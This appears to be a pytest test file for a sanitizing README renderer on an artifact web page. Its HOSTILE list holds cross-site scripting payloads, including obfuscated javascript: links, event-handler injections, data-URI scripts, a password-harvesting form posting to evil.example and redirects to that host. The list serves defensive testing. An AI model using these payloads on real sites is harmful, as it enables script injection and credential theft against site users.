"""READMEs rendered for the artifact page: Markdown in, only allow-listed HTML out, whatever the
README tries (scripts, frames, handlers, hostile URLs in every spelling, styles, forms)."""

from __future__ import annotations

import pytest

from tests.html_support import assert_harmless, elements, text_of
from tmr.web.markdown import (
    MAX_MARKDOWN_CHARS,
    render_readme,
    sanitize,
    strip_front_matter,
)

BANNED_TAGS = {"script", "iframe", "style", "svg", "form", "input", "object", "embed", "meta", "base"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<iframe src='https://evil.example'></iframe>",
    "<img src=x onerror=alert(1)>",
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    "<a href='javascript&#58;alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<style>body { display: none }</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    '<p id="main" class="skip-link">clobber</p>',
    "<!-- <script>alert(1)</script> -->",
    "[x](https://ok.example 'title\" onmouseover=\"alert(1)')",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_harmless(source: str) -> None:
    rendered = render_readme(source + "\n\nafter")
    html = str(rendered.html)
    assert_harmless(html)
    lowered = html.lower()
    for banned in ("<script", "<iframe", "<style"):
        assert banned not in lowered
    for _tag, attrs in elements(html):
        assert not any("script:" in value.lower() for value in attrs.values()), html
    assert "after" in text_of(html)  # the rest of the README survives


@pytest.mark.parametrize("source", HOSTILE)
def test_the_sanitiser_alone_also_stops_raw_html(source: str) -> None:
    """Layer 2 on its own: had Markdown let raw HTML through, nothing harmful would remain."""
    html = sanitize(source)
    assert_harmless(html)
    for tag, attrs in elements(html):
        assert tag not in BANNED_TAGS
        assert not set(attrs) & {"style", "id", "class", "onerror", "onload", "onmouseover"}, html
        assert not any("script:" in value.lower() for value in attrs.values()), html


def test_hostile_text_stays_visible_as_text() -> None:
    html = str(render_readme("<script>alert('x')</script> and [a](javascript:alert(1))").html)
    assert "<script>alert('x')</script>" in text_of(html)
    assert not any(tag == "a" for tag, _ in elements(html))


def test_links_get_noopener_nofollow_and_keep_safe_targets() -> None:
    html = str(
        render_readme(
            "[site](https://example.com/a) [mail](mailto:a@example.com) [doc](docs/usage.md) [top](#usage)"
        ).html
    )
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [link["href"] for link in links] == [
        "https://example.com/a",
        "mailto:a@example.com",
        "docs/usage.md",
        "#usage",
    ]
    assert all(link["rel"] == "noopener nofollow" for link in links)


def test_front_matter_is_not_shown() -> None:
    card = "---\nlicense: apache-2.0\ntags:\n  - secret-tag\n---\n# Model\n\nBody text.\n"
    html = str(render_readme(card).html)
    assert "secret-tag" not in html
    assert "license" not in html
    assert "Body text." in text_of(html)
    assert strip_front_matter("no front matter\n---\n") == "no front matter\n---\n"


def test_headings_sit_below_the_page_outline() -> None:
    html = str(render_readme("# One\n\n## Two\n\nSetext\n======\n\n###### Six\n").html)
    assert [tag for tag, _ in elements(html)] == ["h3", "h4", "h3", "h6"]


def test_tables_code_and_lists_render() -> None:
    html = str(
        render_readme("| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```python\nx = 1 < 2\n```\n\n1. one\n2. two\n").html
    )
    tags = [tag for tag, _ in elements(html)]
    for expected in ("table", "thead", "th", "td", "pre", "code", "ol", "li"):
        assert expected in tags
    assert "x = 1 < 2" in text_of(html)
    assert "style=" not in html  # alignment styles are dropped with every other style


def test_image_only_links_and_empty_links_get_a_name() -> None:
    html = str(
        render_readme(
            "[![](https://img.example/badge.svg)](https://ci.example/build)\n\n[](https://a.example/)"
        ).html
    )
    found = elements(html)
    image = next(attrs for tag, attrs in found if tag == "img")
    assert image["alt"] == "ci.example/build"
    assert "a.example" in text_of(html)


def test_images_load_only_from_absolute_web_urls() -> None:
    html = str(
        render_readme(
            "![local](figure.png) ![web](https://img.example/f.png) ![d](data:image/png;base64,AA)"
        ).html
    )
    sources = [attrs.get("src") for tag, attrs in elements(html) if tag == "img"]
    assert sources == [None, "https://img.example/f.png", None]
    assert [attrs["alt"] for tag, attrs in elements(html) if tag == "img"] == ["local", "web", "d"]


def test_names_with_html_are_escaped() -> None:
    html = str(render_readme('# <img src=x onerror="alert(1)"> model\n\n**<b>bold</b>**').html)
    assert_harmless(html)
    assert '<img src=x onerror="alert(1)"> model' in text_of(html)


def test_a_huge_readme_is_cut_and_says_so() -> None:
    line = "word " * 20 + "\n"
    readme = line * (MAX_MARKDOWN_CHARS // len(line) + 50)
    rendered = render_readme(readme)
    assert rendered.truncated
    assert rendered.shown_chars <= MAX_MARKDOWN_CHARS
    assert rendered.total_chars == len(readme)


def test_a_rendering_that_explodes_is_shown_as_text() -> None:
    target = "https://example.com/" + "a" * 2000
    readme = f"[r]: {target}\n\n" + "[r] " * 60_000
    rendered = render_readme(readme)
    assert rendered.as_text
    assert len(str(rendered.html)) < 1_000_000
    assert_harmless(str(rendered.html))


def test_empty_and_missing_readmes() -> None:
    assert render_readme(None).empty
    assert render_readme("---\nlicense: mit\n---\n").empty
    assert not render_readme("text").empty
